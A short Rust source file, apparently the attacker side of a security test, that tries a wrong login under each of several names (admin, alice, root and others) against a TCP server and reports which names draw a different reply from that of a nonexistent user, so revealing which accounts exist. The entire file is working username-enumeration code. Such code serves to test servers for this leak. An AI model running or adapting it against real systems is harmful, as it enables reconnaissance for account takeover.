//! A stranger without any key: it finds out which names have an account, by logging in wrongly with each of them.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// A name that nobody has: the answer to it is the answer to all names without an account.
const NOBODY: &str = "qzxvkw";
/// The names to be tried. A real list has a million.
const NAMES: [&str; 5] = ["admin", "alice", "bob", "guest", "root"];
/// How long the server may keep the stranger waiting.
const TIMEOUT: Duration = Duration::from_secs(5);

/// Prints every name that gets another answer than nobody's.
pub fn attack(server: SocketAddr) -> io::Result<()> {
    let unknown = wrong_login(server, NOBODY)?;
    let mut learnt = 0;
    for name in NAMES {
        let answer = wrong_login(server, name)?;
        if answer != unknown {
            println!("{name} has an account: {}", answer.trim_ascii().escape_ascii());
            learnt += 1;
        }
    }
    if learnt == 0 {
        return Err(io::Error::other("the server gave the same answer to every name"));
    }
    Ok(())
}

/// All that the server says to this name with a wrong tag.
fn wrong_login(server: SocketAddr, name: &str) -> io::Result<Vec<u8>> {
    let mut stream = TcpStream::connect(server)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    stream.set_write_timeout(Some(TIMEOUT))?;
    let mut challenge = [0; 32];
    stream.read_exact(&mut challenge)?;
    stream.write_all(&[&[name.len() as u8], name.as_bytes(), &[0; 32]].concat())?;
    let mut answer = Vec::new();
    match stream.take(1024).read_to_end(&mut answer) {
        Err(error) if answer.is_empty() => answer.extend(error.kind().to_string().as_bytes()),
        _ => {}
    }
    Ok(answer)
}
